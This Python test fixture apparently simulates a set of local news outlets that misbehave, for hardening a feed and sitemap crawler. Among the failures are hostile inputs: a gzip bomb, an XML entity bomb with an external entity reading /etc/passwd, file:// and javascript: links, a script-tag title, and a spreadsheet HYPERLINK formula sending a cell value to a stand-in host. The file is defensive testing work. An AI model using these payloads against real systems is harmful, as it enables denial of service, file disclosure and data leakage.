"""A press on loopback in which everything goes wrong that goes wrong on the web, with three good outlets in its midst."""

import csv
import itertools
import zlib
from datetime import UTC, datetime
from html import escape
from pathlib import Path

from prensa_minima import CASES, FILLER, PAGE
from press import Outlet, Page, article, rss, sitemap

RSS, XML, GZIP = "application/rss+xml", "application/xml", "application/gzip"
GOOD = ("canal", "seccion", "mapa")
MAP_LINKS = 200_000
MEGABYTE = 1 << 20
FUTURE = datetime(2031, 5, 4, tzinfo=UTC)
TITLES = {
    "/formula": '=HYPERLINK("http://mal.invalid/?"&A1;"Amenazan a reportera")',
    "/guion": "<script>alert(1)</script> Amenazan a <b>defensora</b> & su familia",
}


def stories(outlet: Outlet) -> dict[str, str]:
    """Publish the good articles of an outlet; return their titles by path."""
    titles = {}
    for number, case in enumerate(CASES):
        path, title = f"/2026/05/04/nota-de-la-ciudad-{outlet.name}-{number}", f"{case.split('.')[0][:60]} ({outlet.name})"
        text = "".join(f"<p>{part}</p>" for part in (case, FILLER, f"Así lo contó {outlet.name} en su edición de la mañana."))
        outlet.pages[path] = Page(PAGE.format(title=title, url=outlet.url(path), paragraphs=text, day=4).encode())
        titles[path] = title
    return titles


def feed(outlet: Outlet, items: dict[str, str]) -> None:
    outlet.pages["/rss.xml"] = Page(rss([(outlet.url(path), title) for path, title in items.items()]), RSS)


def good_feed(outlet: Outlet) -> None:
    feed(outlet, stories(outlet))


def good_section(outlet: Outlet) -> None:
    anchors = "".join(f'<h2><a href="{path}">{escape(title)}</a></h2>' for path, title in stories(outlet).items())
    outlet.pages["/seccion"] = Page(f"<html><body>{anchors}</body></html>".encode())


def good_map(outlet: Outlet) -> None:
    outlet.pages["/mapa.xml"] = Page(sitemap([outlet.url(path) for path in stories(outlet)]), XML)


def unavailable(outlet: Outlet) -> None:
    outlet.pages["/rss.xml"] = Page(status=503)


def unavailable_pages(outlet: Outlet) -> None:
    outlet.publish("/a", "/b")
    outlet.pages["/a"] = Page(status=503)


def busy(outlet: Outlet) -> None:
    """Ask for a second's patience, once for the feed and once for an article."""
    outlet.publish("/a", "/b")
    for path in ("/rss.xml", "/a"):
        outlet.pages[path] = _first(Page(status=429, headers=(("Retry-After", "1"),)), outlet.pages[path])


def _first(bad, good):
    """Return a page that answers `bad` once and `good` ever after."""
    answers = iter((bad,))
    return lambda _handler: next(answers, good)


def slow(outlet: Outlet) -> None:
    """Answer late, and one article slower than anybody waits, the first time."""
    outlet.publish("/a", "/b")
    outlet.pages["/rss.xml"] = Page(outlet.pages["/rss.xml"].body, RSS, delay=3)
    outlet.pages["/a"] = _first(Page(article("Tarde"), delay=13), outlet.pages["/a"])


def cut_off(outlet: Outlet) -> None:
    outlet.publish("/a", "/b")
    outlet.pages["/a"] = Page(article("A medias"), cut=300)


def cut_feed(outlet: Outlet) -> None:
    outlet.publish("/a", "/b")
    outlet.pages["/rss.xml"] = Page(outlet.pages["/rss.xml"].body, RSS, cut=200)


def loop(outlet: Outlet) -> None:
    outlet.publish("/a", "/b")
    outlet.pages["/a"] = Page(status=302, headers=(("Location", "/otra"),))
    outlet.pages["/otra"] = Page(status=302, headers=(("Location", "/a"),))


def loop_feed(outlet: Outlet) -> None:
    outlet.pages["/rss.xml"] = Page(status=301, headers=(("Location", "/rss.xml"),))


def bomb(outlet: Outlet) -> None:
    """Send 100 MB packed small, as an article and as a map."""
    outlet.publish("/a", "/b")
    outlet.pages["/a"] = Page(packed(100 * MEGABYTE), headers=(("Content-Encoding", "gzip"),))
    outlet.pages["/mapa.xml.gz"] = Page(packed(100 * MEGABYTE), GZIP)


def packed(size: int) -> bytes:
    """Return `size` blanks (by the megabyte) as gzip."""
    packer = zlib.compressobj(9, wbits=31)
    return b"".join([packer.compress(b" " * MEGABYTE) for _ in range(size // MEGABYTE)]) + packer.flush()


def endless(outlet: Outlet) -> None:
    outlet.publish("/a", "/b")
    outlet.pages["/a"] = Page(b"<html>", endless=True)
    outlet.pages["/mapa.xml"] = Page(b"<urlset>", XML, endless=True)


def endless_feed(outlet: Outlet) -> None:
    outlet.pages["/rss.xml"] = Page(b'<rss version="2.0"><channel>', RSS, endless=True)


def broken_xml(outlet: Outlet) -> None:
    outlet.publish("/a", "/b")
    whole = outlet.pages["/rss.xml"].body
    outlet.pages["/rss.xml"] = Page(whole.replace(b"</channel></rss>", b"<item><title>Sin cerrar & roto"), RSS)


def entity_bomb(outlet: Outlet) -> None:
    """Hold entities that double thirty times, and one that asks for a file of this machine."""
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 31))
    doctype = f'<!DOCTYPE rss [<!ENTITY a0 "ja"><!ENTITY f SYSTEM "file:///etc/passwd">{laughs}]>'
    outlet.publish("/a", "/b")
    items = outlet.pages["/rss.xml"].body.partition(b"<rss")[2].replace(b"<title>Canal", b"<title>&a30;&f;", 1)
    outlet.pages["/rss.xml"] = Page(f'<?xml version="1.0"?>{doctype}<rss'.encode() + items, RSS)
    outlet.pages["/mapa.xml"] = Page(
        f'<?xml version="1.0"?>{doctype}<urlset><url><loc>&a30;&f;</loc></url></urlset>'.encode(), XML
    )


def wrong_charset(outlet: Outlet) -> None:
    """Say UTF-8 and send Latin-1 in the feed; the other way round in the page."""
    outlet.publish("/a", "/b")
    title = "Hostigan a la señora Ñáñez, defensora"
    feed_text = rss([(outlet.url("/a"), title), (outlet.url("/b"), "Otra")]).decode()
    outlet.pages["/rss.xml"] = Page(
        feed_text.replace("?>", ' encoding="utf-8"?>', 1).encode("latin-1"), f"{RSS}; charset=utf-8"
    )
    outlet.pages["/a"] = Page(article(title).replace(b'<meta charset="utf-8">', b""), "text/html; charset=iso-8859-1")
    outlet.pages["/b"] = Page(article(title + " b").decode().encode("latin-1"), "text/html; charset=utf-8")


def dateless(outlet: Outlet) -> None:
    outlet.publish("/a", "/b")
    for path in ("/a", "/b", "/rss.xml"):
        page = outlet.pages[path]
        body = page.body.replace(b'<meta property="article:published_time" content="2026-05-04T15:30:00+00:00">', b"")
        outlet.pages[path] = Page(body.replace(b"<pubDate>Mon, 04 May 2026 15:30:00 +0000</pubDate>", b""), page.kind)


def login_wall(outlet: Outlet) -> None:
    outlet.publish("/a", "/b")
    form = '<form action="/entrar"><input name="u"><input type="password" name="p"><button>Entrar</button></form>'
    page = (
        f"<html><head><title>Inicia sesión</title></head><body><h1>Inicia sesión para seguir leyendo</h1>{form}</body></html>"
    )
    outlet.pages["/a"] = Page(status=302, headers=(("Location", "/entrar?vuelta=/a"),))
    outlet.pages["/entrar?vuelta=/a"] = Page(page.encode())


def trap(outlet: Outlet) -> None:
    """A calendar without end: every page leads to forty others, all of them new at every reading."""
    numbers = itertools.count()

    def calendar(_handler) -> Page:
        days = {f"/agenda/2026/05/dia-{n}-de-la-agenda": f"Agenda cultural del día {n}" for n in itertools.islice(numbers, 40)}
        outlet.pages |= dict.fromkeys(days, calendar)
        return Page("".join(f'<li><a href="{path}">{text}</a></li>' for path, text in days.items()).encode())

    outlet.pages["/agenda"] = calendar


def gone(outlet: Outlet) -> None:
    outlet.pages["/"] = Page(article("Portada"))


def html_feed(outlet: Outlet) -> None:
    outlet.pages["/rss.xml"] = Page(article("Portada en lugar del canal"))


def odd_titles(outlet: Outlet) -> None:
    outlet.publish(*TITLES)
    for path, title in TITLES.items():
        outlet.pages[path] = Page(article(title))
    feed(outlet, TITLES)


def internal(outlet: Outlet) -> None:
    """Lead into the machine: by other schemes, by a redirect, and to a service that is not answering yet."""
    links = [
        "file:///etc/passwd",
        "ftp://127.0.0.1/x",
        "javascript:alert(1)",
        outlet.url("/a-un-archivo"),
        outlet.url("/panel"),
    ]
    outlet.pages["/rss.xml"] = Page(rss([(link, "Amenazan a reportera") for link in links]), RSS)
    outlet.pages["/a-un-archivo"] = Page(status=302, headers=(("Location", "file:///etc/passwd"),))
    outlet.pages["/panel"] = Page(status=503)


def robots_500(outlet: Outlet) -> None:
    outlet.publish("/a", "/b")
    outlet.pages["/robots.txt"] = Page(status=500)


def empty(outlet: Outlet) -> None:
    feed(outlet, {})


def no_body(outlet: Outlet) -> None:
    outlet.pages["/rss.xml"] = Page(b"", RSS)


def from_the_future(outlet: Outlet) -> None:
    outlet.publish("/a", "/b")
    links = [(outlet.url(path), f"Nota {path} de {outlet.name}") for path in ("/a", "/b")]
    outlet.pages["/rss.xml"] = Page(rss(links, published=FUTURE), RSS)
    for path in ("/a", "/b"):
        outlet.pages[path] = Page(article(f"Nota {path} de {outlet.name}", published=FUTURE))


def huge_map(outlet: Outlet) -> None:
    """Name 200,000 old articles, and four of yesterday among them."""
    titles = stories(outlet)
    old = [outlet.url(f"/archivo/nota-{number}") for number in range(MAP_LINKS - len(titles))]
    half = len(old) // 2
    rows = [*((link, "2026-03-01") for link in old[:half]), *((outlet.url(path), "2026-05-04") for path in titles)]
    rows += [(link, "2026-03-02") for link in old[half:]]
    entries = "".join(
        f"<url><loc>{link}</loc><n:news><n:publication_date>{day}</n:publication_date></n:news></url>" for link, day in rows
    )
    names = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" xmlns:n="http://www.google.com/schemas/sitemap-news/0.9"'
    outlet.pages["/mapa.xml"] = Page(f'<?xml version="1.0"?><urlset {names}>{entries}</urlset>'.encode(), XML)


# outlet → how its pages are made, and the readers of its row in the catalogue (none: its feed)
OUTLETS = {
    "canal": (good_feed, {}),
    "caido": (unavailable, {}),
    "paginas503": (unavailable_pages, {}),
    "ocupado": (busy, {}),
    "lento": (slow, {}),
    "cortado": (cut_off, {}),
    "canal-cortado": (cut_feed, {}),
    "vueltas": (loop, {}),
    "canal-vueltas": (loop_feed, {}),
    "bomba": (bomb, {"rss": "/rss.xml", "sitemap": "/mapa.xml.gz"}),
    "sin-fin": (endless, {"rss": "/rss.xml", "sitemap": "/mapa.xml"}),
    "canal-sin-fin": (endless_feed, {}),
    "seccion": (good_section, {"seccion_url": "/seccion"}),
    "roto": (broken_xml, {}),
    "entidades": (entity_bomb, {"rss": "/rss.xml", "sitemap": "/mapa.xml"}),
    "letras": (wrong_charset, {}),
    "sin-fecha": (dateless, {}),
    "acceso": (login_wall, {}),
    "calendario": (trap, {"seccion_url": "/agenda"}),
    "perdido": (gone, {}),
    "pagina": (html_feed, {}),
    "titulos": (odd_titles, {}),
    "adentro": (internal, {}),
    "robots500": (robots_500, {}),
    "vacio": (empty, {}),
    "nada": (no_body, {}),
    "futuro": (from_the_future, {}),
    "mapota": (huge_map, {"sitemap": "/mapa.xml"}),
    "mapa": (good_map, {"sitemap": "/mapa.xml"}),
}
COLUMNS = ("id", "nombre", "tipo", "sitio", "rss", "seccion_url", "sitemap", "activa", "alta", "verificada_en", "notas")


def set_up(outlets: list[Outlet]) -> None:
    """Give every outlet its pages."""
    for outlet in outlets:
        OUTLETS[outlet.name][0](outlet)


def write_catalogue(path: Path, outlets: list[Outlet]) -> Path:
    """Write the catalogue of some outlets."""
    with path.open("w", encoding="utf-8", newline="") as file:
        rows = csv.DictWriter(file, COLUMNS, restval="")
        rows.writeheader()
        for outlet in outlets:
            readers = OUTLETS.get(outlet.name, (None, {}))[1] or {"rss": "/rss.xml"}
            addresses = {name: outlet.url(place) for name, place in readers.items()}
            own = {"id": outlet.name, "nombre": outlet.name, "tipo": "medio_local", "sitio": outlet.url("/"), "activa": "1"}
            rows.writerow(own | addresses)
    return path
